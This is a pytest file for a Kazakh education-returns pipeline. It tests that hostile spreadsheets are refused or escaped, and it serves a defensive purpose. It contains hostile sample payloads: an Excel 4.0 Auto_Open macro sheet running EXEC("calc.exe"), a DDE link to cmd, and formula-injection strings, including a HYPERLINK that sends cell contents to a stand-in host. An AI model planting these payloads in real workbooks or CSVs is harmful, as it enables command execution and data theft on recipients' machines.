"""Hostile workbooks (issue 8, items 5-11): what an attacker or a careless hand does to a return, each file made
by the test itself, with the exact rule code and where the verdict locates it.

Reference cells of the complete KZ-75 2023 return (see ``test_returns_files``): row 4 G1.T1.age1_6 790/1000,
row 11 G1.K3.R3.school 600/1000 (comment in F11), row 22 G1.K6.R3 (count) 100.
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import polars as pl
import pytest

from contracts.home import Layout
from pipelines.returns.ingest import REJECTED, accept_file, load_context
from pipelines.returns.issues import Issue
from pipelines.returns.messages import LANGS
from pipelines.returns.pii import has_person_name
from pipelines.returns.verdict import Verdict, validate_file
from tests.returns_fixtures import TemplateFile, context, flat_rows, write_flat_csv, write_flat_xlsx

# --- helpers ------------------------------------------------------------------------------------------------------


def check(path: Path, **ctx) -> Verdict:
    return validate_file(path, context(**ctx))


def only(v: Verdict, code: str) -> Issue:
    found = [i for i in v.issues if i.code == code]
    assert len(found) == 1, f"{code}: {[(i.code, i.location) for i in v.issues]}"
    return found[0]


def located(issue: Issue, location: str) -> None:
    """The finding sits at ``location`` and every language's message names it."""
    assert issue.location == location
    for lang in LANGS:
        assert location in issue.message(lang), (lang, issue.message(lang))


@pytest.fixture
def city(tmp_path: Path) -> TemplateFile:
    """A complete KZ-75 2023 return."""
    return TemplateFile(tmp_path, "KZ-75", 2023)


def assert_kept_nowhere(home: Path, source: Path, secret: str) -> None:
    """Nothing under BILIM_HOME holds the file (by content), a copy of it, or the secret text."""
    data = source.read_bytes()
    for path in home.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert content != data, path
            assert secret.encode() not in content and secret.encode("utf-16-le") not in content, path
            assert not path.name.endswith(".xlsx"), path
    assert not (home / "raw" / "returns" / "reports").exists()


# --- 5. people's names found by their values ----------------------------------------------------------------------

FULL_NAME = "Жумабаев Ерлан Болатович"


@pytest.mark.parametrize(
    "text",
    [
        "Иванов Иван Иванович",
        "Ахметова Айгүл Серікқызы",
        "Әлиев Серік Нұрланұлы",
        "Ахметов Нұрлан ұлы",
        "Мария Петровна",
        "Ивaнoв Иван Ивaнoвич",  # Latin a and o typed inside Cyrillic words
        "Ivanov Ivan Ivanovich",
        "Omarov Daniyar Serikuly",
        "Иванов И.И.",
        "исполнитель: Смирнова Анна Петровна, тел. 8 727 000 00 00",
    ],
)
def test_person_name_rule_finds_names(text):
    assert has_person_name(text)


@pytest.mark.parametrize(
    "text",
    [
        "Данные ГУ Отдел образования",
        "Северо-Казахстанская область",
        "Северо Казахстанская Область",
        "Министерство Просвещения Республики Казахстан",
        "Назарбаев Интеллектуальные школы",
        "Ұлы Дала елі",
        "Условна оценка",
        "synthetic demo value",
        "synthetic demo value (revised)",
        "published (high confidence): https://informburo.kz/novosti/issledovanie-urovnya-gramotnosti-pisa",
        "тегін ыстық тамақ / бесплатное горячее питание",
        "lost Ulytau/Zhanaarka districts + Zhezkazgan/Karazhal/Satpayev to Ulytau 2022-06-08",
    ],
)
def test_person_name_rule_leaves_agencies_places_and_demo_comments(text):
    assert not has_person_name(text)


def test_demo_and_catalogue_texts_hold_no_names():
    """Every text the template writes (indicator names, units, numerator/denominator wording, region names) and
    every comment the demo loads passes the rule: the demo's own returns are not rejected as personal data."""
    from contracts.home import repo_raw
    from pipelines.catalogue.load import load_catalogue, load_regions

    texts = {"synthetic demo value", "synthetic demo value (revised)", "DEMO (synthetic data)"}
    for frames in (load_catalogue(repo_raw()), load_regions(repo_raw())):
        for frame in frames.values():
            for name, dtype in frame.schema.items():
                if dtype == pl.String and name != "notes":
                    texts |= set(frame[name].drop_nulls().to_list())
    assert [t for t in texts if has_person_name(t)] == []


def test_column_of_full_names_under_an_ordinary_header_is_personal_data(city: TemplateFile, bilim_home: Path):
    """The attack of issue 8: "Ответственный исполнитель" in N3 and a full name in N4 and N5."""
    city.ws["N3"] = "Ответственный исполнитель"
    city.ws["N4"] = FULL_NAME
    city.ws["N5"] = "Касымова Динара Ерлановна"
    path = city.save()
    v = check(path)
    assert not v.accepted and v.rule_codes() == ["F_PERSON_NAME"] and v.personal_data
    assert [i.location for i in v.issues] == ["data!N4", "data!N5"]
    located(v.issues[0], "data!N4")
    assert "Жумабаев" not in json.dumps(v.to_dict(), ensure_ascii=False)
    layout = Layout.current()
    result = accept_file(path, load_context(layout), layout, who="officer-75")
    assert result.status == REJECTED and result.annotated is None
    assert_kept_nowhere(bilim_home, path, "Жумабаев")


def test_name_in_a_comment_is_personal_data(city: TemplateFile):
    city.set("G1.K3.R3.school", comment="отв. Сапарбаев Нурлан Ермекович")
    v = check(city.save())
    assert v.rule_codes() == ["F_PERSON_NAME"] and v.personal_data
    located(only(v, "F_PERSON_NAME"), "data!F11")


def test_name_in_the_meta_sheet_is_personal_data(city: TemplateFile):
    city.meta["B4"] = "Кенжебеков Арман Маратович"
    v = check(city.save())
    assert v.rule_codes() == ["F_PERSON_NAME"]
    located(only(v, "F_PERSON_NAME"), "meta!B4")


def test_agency_comment_is_not_a_name(city: TemplateFile):
    city.set("G1.K3.R3.school", comment="Данные ГУ Отдел образования")
    city.meta["B4"] = "Главный специалист, Отдел образования"
    v = check(city.save())
    assert v.accepted and v.rule_codes() == []


def test_name_in_a_flat_csv_is_located_by_line_and_column(tmp_path: Path):
    recs = flat_rows("KZ-75", 2023)
    recs[2]["comment"] = FULL_NAME  # line 4
    v = check(write_flat_csv(tmp_path / "return.csv", recs))
    assert v.rule_codes() == ["F_PERSON_NAME"] and v.personal_data
    located(only(v, "F_PERSON_NAME"), "return.csv:4:comment")


def test_name_in_an_extra_column_of_a_large_flat_workbook(tmp_path: Path):
    """The calamine reader (flat workbooks over 2 MB) applies the same rule to every text column."""
    from pipelines.returns.read import ReadFailure, read_flat_xlsx

    recs = flat_rows("KZ-75", 2023)
    for rec in recs:
        rec["responsible"] = "Отдел образования"
    recs[5]["responsible"] = FULL_NAME  # row 7
    path = write_flat_xlsx(tmp_path / "flat.xlsx", recs, columns=[*recs[0].keys()])
    with pytest.raises(ReadFailure) as failure:
        read_flat_xlsx(path, "flat.xlsx")
    (issue,) = failure.value.issues
    assert issue.code == "F_PERSON_NAME"
    located(issue, "values!I7")


# --- 6. active content decided by content types and relationships -------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSREL = "http://schemas.microsoft.com/office/2006/relationships"


def add_parts(path: Path, parts: dict[str, bytes], overrides: dict[str, str] | None = None, rels: list[tuple[str, str, str]] = (),
              workbook_edit=None, content_types_edit=None) -> Path:
    """Rewrite a workbook adding ``parts``, content-type ``overrides`` (part -> type) and relationships
    ``(source part, type, target part)``; ``workbook_edit`` rewrites xl/workbook.xml."""
    with zipfile.ZipFile(path) as zf:
        members = {i.filename: zf.read(i.filename) for i in zf.infolist()}
    members.update(parts)
    types = members["[Content_Types].xml"].decode()
    extra = "".join(f'<Override PartName="/{p}" ContentType="{t}"/>' for p, t in (overrides or {}).items())
    types = types.replace("</Types>", extra + "</Types>")
    members["[Content_Types].xml"] = (content_types_edit(types) if content_types_edit else types).encode()
    for n, (source, rtype, target) in enumerate(rels):
        folder, _, file = source.rpartition("/")
        rels_name = f"{folder}/_rels/{file}.rels"
        body = members.get(rels_name, b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>').decode()
        rel_target = "/" + target if not target.startswith(("http", "file:")) else target
        mode = ' TargetMode="External"' if target.startswith(("http", "file:")) else ""
        relationship = f'<Relationship Id="rIdX{n}" Type="{rtype}" Target="{rel_target}"{mode}/>'
        body = body.replace("</Relationships>", f"{relationship}</Relationships>")
        members[rels_name] = body.encode()
    if workbook_edit:
        members["xl/workbook.xml"] = workbook_edit(members["xl/workbook.xml"].decode()).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def data_sheet_part(path: Path) -> str:
    from tests.returns_fixtures import sheet_member

    return sheet_member(path, "data")


def test_vba_project_under_another_name_is_refused(city: TemplateFile):
    path = add_parts(
        city.save(),
        {"xl/media/notes.dat": bytes(range(256)) * 8},
        overrides={"xl/media/notes.dat": "application/vnd.ms-office.vbaProject"},
        rels=[("xl/workbook.xml", f"{MSREL}/vbaProject", "xl/media/notes.dat")],
    )
    v = check(path)
    assert not v.accepted and v.rule_codes() == ["F_MACROS"] and v.raw is None
    located(only(v, "F_MACROS"), "xl/media/notes.dat")


def test_macro_enabled_workbook_type_is_refused(city: TemplateFile):
    path = add_parts(
        city.save(),
        {},
        content_types_edit=lambda t: t.replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
    )
    v = check(path)
    assert v.rule_codes() == ["F_MACROS"]
    located(only(v, "F_MACROS"), "xl/workbook.xml")


MACRO_SHEET = (
    b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
    b'<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row>'
    b'<row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>'
)


def test_excel4_macro_sheet_with_auto_open_is_refused_and_named(city: TemplateFile):
    """An XLM macro sheet stored among the worksheets (not under xl/macrosheets/), with a defined name Auto_Open."""

    def workbook(xml: str) -> str:
        xml = xml.replace("</sheets>", '<sheet name="Лист5" sheetId="99" r:id="rIdX0"/></sheets>')
        return (
            xml.replace(
                "</workbook>",
                '<definedNames><definedName name="_xlnm.Auto_Open">Лист5!$A$1</definedName></definedNames></workbook>',
            )
            if "<definedNames>" not in xml
            else xml
        )

    path = add_parts(
        city.save(),
        {"xl/worksheets/sheet9.xml": MACRO_SHEET},
        overrides={"xl/worksheets/sheet9.xml": "application/vnd.ms-excel.macrosheet+xml"},
        rels=[("xl/workbook.xml", f"{MSREL}/xlMacrosheet", "xl/worksheets/sheet9.xml")],
        workbook_edit=workbook,
    )
    v = check(path)
    assert not v.accepted and v.rule_codes() == ["F_XLM_MACROS"]
    located(only(v, "F_XLM_MACROS"), "Лист5")
    assert "Excel 4.0" in only(v, "F_XLM_MACROS").message("en")


def test_activex_control_is_refused_at_its_sheet(city: TemplateFile):
    path = city.save()
    sheet = data_sheet_part(path)
    path = add_parts(
        path,
        {
            "xl/ctl/c1.xml": b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
        },
        overrides={"xl/ctl/c1.xml": "application/vnd.ms-office.activeX+xml"},
        rels=[(sheet, f"{REL}/control", "xl/ctl/c1.xml")],
    )
    v = check(path)
    assert v.rule_codes() == ["F_ACTIVEX"]
    located(only(v, "F_ACTIVEX"), "data")


def test_embedded_ole_object_is_refused_at_its_sheet(city: TemplateFile):
    path = city.save()
    sheet = data_sheet_part(path)
    path = add_parts(
        path,
        {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)},
        overrides={"xl/embeddings/oleObject1.bin": "application/vnd.openxmlformats-officedocument.oleObject"},
        rels=[(sheet, f"{REL}/oleObject", "xl/embeddings/oleObject1.bin")],
    )
    v = check(path)
    assert v.rule_codes() == ["F_OLE_OBJECT"]
    located(only(v, "F_OLE_OBJECT"), "data")


EXTERNAL_LINK = (
    b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="rId1"/></externalLink>'
)
DDE_LINK = (
    b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
    b'<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
)
LINK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"


def test_external_link_is_refused(city: TemplateFile):
    path = add_parts(
        city.save(),
        {"xl/links/book.xml": EXTERNAL_LINK},
        overrides={"xl/links/book.xml": LINK_TYPE},
        rels=[
            ("xl/workbook.xml", f"{REL}/externalLink", "xl/links/book.xml"),
            ("xl/links/book.xml", f"{REL}/externalLinkPath", "file:///C:/secret/budget.xlsx"),
        ],
    )
    v = check(path)
    assert v.rule_codes() == ["F_EXTERNAL_LINK"]
    located(only(v, "F_EXTERNAL_LINK"), "xl/links/book.xml")


def test_dde_link_is_refused_as_dde(city: TemplateFile):
    path = add_parts(
        city.save(),
        {"xl/externalLinks/externalLink1.xml": DDE_LINK},
        overrides={"xl/externalLinks/externalLink1.xml": LINK_TYPE},
        rels=[("xl/workbook.xml", f"{REL}/externalLink", "xl/externalLinks/externalLink1.xml")],
    )
    v = check(path)
    assert v.rule_codes() == ["F_DDE"]
    located(only(v, "F_DDE"), "xl/externalLinks/externalLink1.xml")


def test_active_content_is_refused_before_any_sheet_is_parsed(city: TemplateFile, monkeypatch: pytest.MonkeyPatch):
    import pipelines.returns.read as read

    def refuse(*args, **kwargs):
        raise AssertionError("a sheet was parsed")

    monkeypatch.setattr(read, "read_xlsx", refuse)
    monkeypatch.setattr(read, "read_flat_xlsx", refuse)
    monkeypatch.setattr("pipelines.returns.verdict.read_xlsx", refuse)
    monkeypatch.setattr("pipelines.returns.verdict.read_flat_xlsx", refuse)
    path = add_parts(
        city.save(), {"xl/externalLinks/externalLink1.xml": DDE_LINK}, overrides={"xl/externalLinks/externalLink1.xml": LINK_TYPE}
    )
    assert check(path).rule_codes() == ["F_DDE"]


def test_plain_template_has_no_active_content(city: TemplateFile):
    assert check(city.save()).rule_codes() == []


# --- 10. a blank template must not replace a full return ----------------------------------------------------------


def test_blank_template_is_refused_as_holding_no_values(tmp_path: Path):
    t = TemplateFile(tmp_path, "KZ-75", 2023, complete=False)
    v = check(t.save())
    assert not v.accepted and v.rule_codes() == ["F_NO_VALUES"]
    located(only(v, "F_NO_VALUES"), "meta!B6")
    assert "holds no values" in only(v, "F_NO_VALUES").message("en")


@pytest.mark.parametrize("answer", ["yes", "Иә", "да"])
def test_blank_template_declaring_nothing_to_report_is_recorded_as_such(tmp_path: Path, answer: str):
    t = TemplateFile(tmp_path, "KZ-75", 2023, complete=False)
    t.meta["B6"] = answer
    v = check(t.save())
    assert v.accepted and v.rule_codes() == ["W_EMPTY_RETURN"]


def test_declaring_nothing_to_report_beside_values_is_a_contradiction(city: TemplateFile):
    city.meta["B6"] = "yes"
    v = check(city.save())
    assert not v.accepted and v.rule_codes() == ["F_NOTHING_TO_REPORT_WITH_VALUES"]
    issue = only(v, "F_NOTHING_TO_REPORT_WITH_VALUES")
    located(issue, "meta!B6")
    assert issue.params["count"] == 27


def test_nothing_to_report_answer_must_be_yes_or_no(city: TemplateFile):
    city.meta["B6"] = "maybe"
    v = check(city.save())
    assert v.rule_codes() == ["F_BAD_NOTHING_TO_REPORT"]
    located(only(v, "F_BAD_NOTHING_TO_REPORT"), "meta!B6")


def test_flat_file_with_rows_but_no_values_is_refused(tmp_path: Path):
    recs = [{**r, "value": None, "numerator": None, "denominator": None} for r in flat_rows("KZ-75", 2023)]
    v = check(write_flat_csv(tmp_path / "return.csv", recs))
    assert not v.accepted and v.rule_codes() == ["F_NO_VALUES"]
    located(only(v, "F_NO_VALUES"), "return.csv:2:value")


def test_dry_run_of_a_return_dropping_values_of_the_current_one_says_how_many(tmp_path: Path):
    """The officer sees it before submitting: `bilim validate` (validate_only) warns that 7 values of the accepted
    KZ-75 2023 return would no longer count."""
    from pipelines.returns.ingest import ACCEPTED, validate_only

    layout = Layout.current()
    full = TemplateFile(tmp_path, "KZ-75", 2023, name="full.xlsx")
    assert accept_file(full.save(), load_context(layout), layout, who="officer-75").status == ACCEPTED
    partial = TemplateFile(tmp_path, "KZ-75", 2023, name="partial.xlsx")
    for r in range(24, 31):  # G1.K7.R1 .. G1.K8.R1 left blank
        for col in "CDE":
            partial.ws[f"{col}{r}"] = None
    v = validate_only(partial.save(), load_context(layout), layout)
    assert v.accepted and v.rule_codes() == ["W_DROPPED_ROWS", "W_MISSING_ROWS"]
    dropped = only(v, "W_DROPPED_ROWS")
    assert dropped.params["count"] == 7 and "7" in dropped.message("ru") and "G1.K7.R1 (total)" in dropped.params["examples"]


# --- 8. a fraction typed for a percentage beside its numerator and denominator ------------------------------------


def test_fraction_beside_its_parts_is_a_warning_showing_both_readings(city: TemplateFile):
    """G1.K3.R3.school: 6011 / 10000 = 60.11 %, value typed 0.6011: accepted, the computed 60.11 % counts."""
    city.set("G1.K3.R3.school", value=0.6011, numerator=6011, denominator=10000)
    v = check(city.save())
    assert v.accepted and v.rule_codes() == ["W_FRACTION_BESIDE_PARTS"]
    issue = only(v, "W_FRACTION_BESIDE_PARTS")
    located(issue, "data!C11")
    assert "0.6011" in issue.message("en") and "60.11 %" in issue.message("en")
    assert "0,6011" in issue.message("ru") and "60,11 %" in issue.message("ru")
    assert "0,6011" in issue.message("kk") and "60,11 %" in issue.message("kk")
    (g,) = v.groups
    assert g.rows.filter(pl.col("_row") == 11)["actual"].item() == pytest.approx(60.11)


def test_fraction_disagreeing_with_its_parts_is_still_a_mismatch(city: TemplateFile):
    city.set("G1.K3.R3.school", value=0.5)  # 600 / 1000 = 60 %, not 50 %
    v = check(city.save())
    assert not v.accepted and v.rule_codes() == ["R_VALUE_MISMATCH"]
    located(only(v, "R_VALUE_MISMATCH"), "data!C11")


# --- 9. formula-like text from a return never runs in a file the system writes ------------------------------------

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /c calc'!A0",
    "@SUM(1+1)*cmd|' /c calc'!A0",
    "-2+3+cmd|' /c calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_text_is_escaped_in_csv_and_numbers_are_not():
    from contracts.spreadsheet import escape_frame, escape_text, unescape_frame

    frame = pl.DataFrame(
        {"comment": [*FORMULAS, "'quoted", "ok", None], "value": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0, None]}
    )
    safe = escape_frame(frame)
    assert safe["comment"].to_list() == [*("'" + f for f in FORMULAS), "''quoted", "ok", None]
    assert safe["value"].to_list() == frame["value"].to_list()  # -1.5 is a number, written as -1.5
    assert ",-1.5\n" in safe.write_csv()
    assert unescape_frame(safe).equals(frame)  # reversible: a snapshot read back is the text as typed
    assert escape_text("=1") == "'=1" and escape_text("1=1") == "1=1"


def test_snapshot_csv_escapes_and_recomputes_to_the_same_bytes(tmp_path: Path):
    """canonical_csv escapes; the snapshot's reader undoes it, so writing what was read gives the same bytes."""
    from pipelines.snapshots import _read_input, canonical_csv

    frame = pl.DataFrame({"comment": FORMULAS, "value": [-1.0, 2.5, 3.0, 4.0, 5.0, 6.0]})
    data = canonical_csv(frame)
    assert all(f"'{f}".encode() in data or f"\"'{f}".encode() in data for f in ("=HYPERLINK", "+cmd", "@SUM", "-2+3"))
    path = tmp_path / "stg.csv"
    path.write_bytes(data)
    path.with_suffix(".schema.json").write_text(json.dumps({"comment": "String", "value": "Float64"}))
    back = _read_input(path)
    assert back.sort("comment").equals(frame.sort("comment"))
    assert canonical_csv(back) == data


def test_dashboard_downloads_never_hold_a_formula():
    from dashboard.views import csv_bytes, xlsx_bytes

    frame = pl.DataFrame({"comment": FORMULAS[:3], "value": [-1.0, 2.0, 3.0]})
    data = csv_bytes(frame)
    assert b"'=HYPERLINK" in data and b"\n'+cmd" in data and b"\n'@SUM" in data and b",-1.0" in data
    path_xlsx = xlsx_bytes(frame)
    import io

    with zipfile.ZipFile(io.BytesIO(path_xlsx)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    import openpyxl

    ws = openpyxl.load_workbook(io.BytesIO(path_xlsx)).active
    assert ws["A2"].value == FORMULAS[0] and ws["A2"].data_type == "s" and ws["B2"].value == -1


def test_cli_csv_output_escapes_text(capsys: pytest.CaptureFixture):
    from pipelines.cli import _emit

    _emit(pl.DataFrame({"region_code": ["KZ-75"], "comment": [FORMULAS[1]], "gap": [-2.5]}), "csv")
    out = capsys.readouterr().out
    assert out.splitlines()[1] == "KZ-75,'+cmd|' /c calc'!A0,-2.5"


def test_annotated_copy_holds_no_formula_from_the_return(city: TemplateFile, tmp_path: Path):
    """A rejected workbook with a text cell "=HYPERLINK(...)" and a real formula: the annotated copy keeps the
    text as text and the formula's saved result only."""
    from pipelines.returns.annotate import annotate_workbook

    cell = city.ws["F11"]
    cell.value = FORMULAS[0]
    cell.data_type = "s"  # typed as text, as a CSV or a quote-prefixed cell arrives
    city.ws["F12"] = '=HYPERLINK("http://x.example","click")'  # a formula (no saved result)
    city.set("G1.K6.R3", value="abc")  # an error, so the file is rejected and annotated
    path = city.save()
    v = check(path)
    assert not v.accepted
    out = tmp_path / "annotated.xlsx"
    annotate_workbook(path, v.issues, out)
    with zipfile.ZipFile(out) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in xml and b"<f " not in xml
    import openpyxl

    ws = openpyxl.load_workbook(out)["data"]
    assert ws["F11"].value == FORMULAS[0] and ws["F11"].data_type == "s"


@pytest.mark.slow
def test_snapshot_of_a_return_with_formula_text_is_escaped_and_verifies(tmp_path: Path, bilim_home: Path):
    """End to end: a flat CSV return whose comments are formulas is accepted, built and snapshotted; the snapshot's
    CSV holds the escaped text and `verify` recomputes it to the same bytes."""
    from pipelines.returns.ingest import ACCEPTED
    from pipelines.runner import prepare_dagster_home, run_all
    from pipelines.snapshots import take_snapshot, verify
    from tests.conftest import submit_and_accept

    recs = flat_rows("KZ-75", 2023)
    for rec, text in zip(recs, FORMULAS, strict=False):
        rec["comment"] = text
    path = write_flat_csv(tmp_path / "return.csv", recs)
    layout = Layout.current()
    assert submit_and_accept(path, load_context(layout), layout).status == ACCEPTED
    prepare_dagster_home(layout)
    ok, _, message = run_all()
    assert ok, message
    meta = take_snapshot(layout)
    staged = (layout.snapshots / meta["snapshot_id"] / "inputs" / "stg_returns__values.csv").read_bytes()
    assert b"'=HYPERLINK" in staged and b"'+cmd" in staged and b",=HYPERLINK" not in staged
    assert verify(layout, meta["snapshot_id"]) == []


# --- 11. library noise never reaches the user ---------------------------------------------------------------------


def mixed_type_flat_workbook(path: Path, big: bool) -> Path:
    """A valid flat return whose value column mixes numbers and dashes ("not available" beside the rate parts):
    fastexcel logs "Could not determine dtype for column 4, falling back to string" while reading it. ``big`` pads
    the comments with incompressible text past the 2 MB threshold of the calamine reader."""
    import random
    import string

    rnd = random.Random(7)
    recs = []
    for region in ("KZ-75", "KZ-71", "KZ-79", "KZ-19") if big else ("KZ-75",):
        recs += flat_rows(region, 2023)
    for rec in recs:
        if rec["value"] is None:
            rec["value"] = "-"
        if big:
            rec["comment"] = "".join(rnd.choices(string.ascii_lowercase, k=30000))
    return write_flat_xlsx(path, recs)


def test_flat_reader_says_nothing_on_stderr(tmp_path: Path, capfd: pytest.CaptureFixture):
    from pipelines.returns.read import read_flat_xlsx

    raw = read_flat_xlsx(mixed_type_flat_workbook(tmp_path / "mixed.xlsx", big=False), "mixed.xlsx")
    assert raw.frame.height == 27
    assert capfd.readouterr().err == ""


@pytest.mark.slow
def test_bilim_validate_prints_nothing_on_stderr_for_a_valid_file(tmp_path: Path):
    from tests.conftest import run_bilim

    path = mixed_type_flat_workbook(tmp_path / "bulk.xlsx", big=True)
    assert path.stat().st_size > 2 * 2**20
    result = run_bilim("validate", str(path))
    assert result.returncode == 0, result.stdout
    assert "ACCEPTED" in result.stdout
    assert result.stderr == ""


# --- 7. every hostile file gets its verdict in a fresh `bilim validate` under a memory cap -------------------------


@pytest.mark.slow
@pytest.mark.parametrize("name", sorted(__import__("tests.hostile_files", fromlist=["HOSTILE"]).HOSTILE))
def test_hostile_file_gets_its_verdict_under_a_memory_cap(name: str, tmp_path: Path):
    """Resource test: `bilim validate --json` in a child with RLIMIT_AS 2 GiB (address space; Polars reserves far
    more than it uses) gives the expected verdict, exit code and an empty stderr. Timing is the benchmark's job
    (bench/bench_hostile.py); here only the verdict is asserted."""
    import os
    import resource
    import subprocess

    from tests.hostile_files import HOSTILE

    make, accepted, expected = HOSTILE[name]
    path = make(tmp_path)
    cap = 2 << 30
    env = {k: v for k, v in os.environ.items() if k != "DAGSTER_HOME"}
    result = subprocess.run(
        [str(Path(os.sys.executable).parent / "bilim"), "validate", "--json", str(path)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (cap, cap)),
    )
    assert result.stderr == ""
    (verdict,) = json.loads(result.stdout)
    assert (verdict["accepted"], sorted({i["code"] for i in verdict["errors"] + verdict["warnings"]})) == (accepted, expected)
    assert result.returncode == (0 if accepted else 1)
